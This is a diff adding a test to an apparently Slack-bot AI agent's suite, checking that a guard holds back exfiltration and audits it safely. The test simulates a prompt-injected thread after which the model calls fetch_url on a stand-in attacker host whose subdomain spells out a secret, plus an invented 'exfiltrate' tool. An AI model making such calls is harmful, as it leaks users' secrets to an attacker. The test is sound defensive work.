@@ -101,6 +101,27 @@ async def test_a_guard_hold_is_audited_with_its_host_and_never_the_url_or_the_da
     assert run["tools"] == [{"name": "fetch_url", "outcomes": {"held_back": 1}}] and run["run_id"] == held["run_id"]
 
 
+async def test_a_held_call_names_its_registrable_domain_and_a_made_up_tool_is_unknown(
+    guarded: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer, audit_file: Path
+) -> None:
+    # The host's first label spells what the thread said: only the domain someone registered may be named.
+    root = poisoned_thread(fake_slack, pages.url("/text"))
+    fake_openai.queue(tool_calls(("fetch_url", {"url": "https://launchcode-is-quartz.attacker.example/x"}),
+                                 ("exfiltrate_MARKERARG31", {"data": "x"})), text("Done."))
+    await guarded.post_event(event_body(mention(text="<@UBOT> summarise this thread", ts=next_ts(), thread_ts=root)))
+    await guarded.drain()
+    raw = audit_file.read_text()
+    assert "launchcode" not in raw and "MARKERARG31" not in raw
+    written = lines(audit_file)
+    for line in written:
+        jsonschema.validate(line, audit.SCHEMA)
+    [held] = [e for e in written if e["event"] == "guard.decided"]
+    assert (held["tool"], held["reason"], held["host"]) == ("fetch_url", "not_allowed", "attacker.example")
+    [run] = [e for e in written if e["event"] == "run.finished"]
+    assert run["tools"] == [{"name": "fetch_url", "outcomes": {"held_back": 1}},
+                            {"name": "unknown", "outcomes": {"unknown_tool": 1}}]
+
+
 async def test_installs_uninstalls_and_revocations_are_audited_without_tokens(
     web: tuple[Service, aiohttp.ClientSession], fake_slack: FakeSlack, audit_file: Path
 ) -> None:
